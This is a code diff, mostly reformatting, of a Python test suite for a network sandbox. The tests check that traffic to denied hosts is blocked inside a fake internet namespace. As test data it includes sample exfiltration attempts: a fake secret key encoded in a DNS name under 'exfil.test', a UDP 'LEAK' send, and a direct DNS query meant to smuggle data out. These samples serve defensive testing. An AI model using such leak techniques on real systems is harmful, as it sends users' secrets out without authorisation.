@@ -3,6 +3,7 @@
 Traffic goes only to the fake internet (a namespace tests/net/conftest.py
 creates) and to loopback.  Each denial test also proves its allowed twin.
 """
+
 from __future__ import annotations
 
 import json
@@ -78,19 +79,24 @@ def session(fake_inet: FakeInet) -> Iterator:
         fake_inet.set_zone(ZONE)
 
 
-def test_allowed_name_reachable_and_denied_name_never_asked_upstream(session, fake_inet: FakeInet) -> None:
+def test_allowed_name_reachable_and_denied_name_never_asked_upstream(
+    session, fake_inet: FakeInet
+) -> None:
     mark = fake_inet.mark()
     secret_name = "sk-live-0123456789.exfil.test"
-    ok, denied, denied_sub = connect_all(session, [("allowed.test", 80, 0), ("exfil.test", 80, 0),
-                                                    (secret_name, 80, 0)])
+    ok, denied, denied_sub = connect_all(
+        session, [("allowed.test", 80, 0), ("exfil.test", 80, 0), (secret_name, 80, 0)]
+    )
     assert ok["result"] == "ok" and ok["body"] == f"fake:{ADDRS['allowed']}:80\n"
     assert denied["result"] == "nxdomain" and denied_sub["result"] == "nxdomain"
     asked = {e["name"] for e in fake_inet.since(mark) if e["kind"] == "dns"}
     assert "allowed.test" in asked
     assert "exfil.test" not in asked and secret_name not in asked
     deny_events = [e for e in session.events if e["result"] == "deny"]
-    assert any(e["target"] == secret_name and e["layer"] == "dns" and e["action"] == "network"
-               for e in deny_events)
+    assert any(
+        e["target"] == secret_name and e["layer"] == "dns" and e["action"] == "network"
+        for e in deny_events
+    )
     assert session.name_map[ADDRS["allowed"]] == ("allowed.test",)
 
 
@@ -108,7 +114,7 @@ def test_udp_to_denied_address_gets_nothing_through(session, fake_inet: FakeInet
     code = f"""
 import socket
 ip = socket.getaddrinfo("allowed.test", 9999, socket.AF_INET)[0][4][0]
-for host, tag in (("{ADDRS['exfil']}", "LEAK-udp-denied"), (ip, "udp-allowed-twin")):
+for host, tag in (("{ADDRS["exfil"]}", "LEAK-udp-denied"), (ip, "udp-allowed-twin")):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.connect((host, 9999))
     s.send(tag.encode())
@@ -134,7 +140,7 @@ import socket
 from dnslib import DNSRecord
 q = DNSRecord.question("leak-via-direct-dns.exfil.test").pack()
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.connect(("{ADDRS['dns']}", 53))
+s.connect(("{ADDRS["dns"]}", 53))
 s.send(q)
 s.settimeout(2)
 try:
@@ -150,24 +156,39 @@ except OSError as e:
 
 
 def test_changed_answer_keeps_working(session, fake_inet: FakeInet) -> None:
-    first, = connect_all(session, [("allowed.test", 80, 0)])
+    (first,) = connect_all(session, [("allowed.test", 80, 0)])
     assert first["result"] == "ok" and first["ip"] == ADDRS["allowed"]
     fake_inet.set_zone({**ZONE, "allowed.test": {"A": [ADDRS["allowed_new"]], "ttl": 5}})
-    second, = connect_all(session, [("allowed.test", 80, 0)])
+    (second,) = connect_all(session, [("allowed.test", 80, 0)])
     assert second["result"] == "ok" and second["ip"] == ADDRS["allowed_new"]
     assert second["body"] == f"fake:{ADDRS['allowed_new']}:80\n"
     fake_inet.set_zone(ZONE)
 
 
 def test_wildcard_and_port_rules(session) -> None:
-    res = connect_all(session, [("cdn.allowed.test", 80, 0), ("cdn.allowed.test", 8080, 0),
-                                ("ports.test", 8080, 0), ("ports.test", 80, 0), ("allowed.test", 8080, 0)])
-    assert [r["result"] for r in res] == ["ok", "ConnectionRefusedError", "ok",
-                                          "ConnectionRefusedError", "ok"]
+    res = connect_all(
+        session,
+        [
+            ("cdn.allowed.test", 80, 0),
+            ("cdn.allowed.test", 8080, 0),
+            ("ports.test", 8080, 0),
+            ("ports.test", 80, 0),
+            ("allowed.test", 8080, 0),
+        ],
+    )
+    assert [r["result"] for r in res] == [
+        "ok",
+        "ConnectionRefusedError",
+        "ok",
+        "ConnectionRefusedError",
+        "ok",
+    ]
 
 
 def test_ipv6(session, fake_inet: FakeInet) -> None:
-    ok, denied = connect_all(session, [("v6.test", 80, socket.AF_INET6), (ADDRS["v6_denied"], 80, 0)])
+    ok, denied = connect_all(
+        session, [("v6.test", 80, socket.AF_INET6), (ADDRS["v6_denied"], 80, 0)]
+    )
     assert ok["result"] == "ok" and ok["body"] == f"fake:{ADDRS['v6_ok']}:80\n"
     assert denied["result"] == "ConnectionRefusedError" and denied["secs"] < 1.0
 
@@ -212,8 +233,16 @@ print(" ".join(out))
 
 
 def _leftovers(tag: str) -> list[str]:
-    out = subprocess.run(["sh", "-c", "ls /run/netns 2>/dev/null; ls /run/landgate 2>/dev/null; "
-                          "ip -o link; nft list tables"], capture_output=True, text=True, check=False).stdout
+    out = subprocess.run(
+        [
+            "sh",
+            "-c",
+            "ls /run/netns 2>/dev/null; ls /run/landgate 2>/dev/null; ip -o link; nft list tables",
+        ],
+        capture_output=True,
+        text=True,
+        check=False,
+    ).stdout
     return [line for line in out.splitlines() if tag in line]
 
 
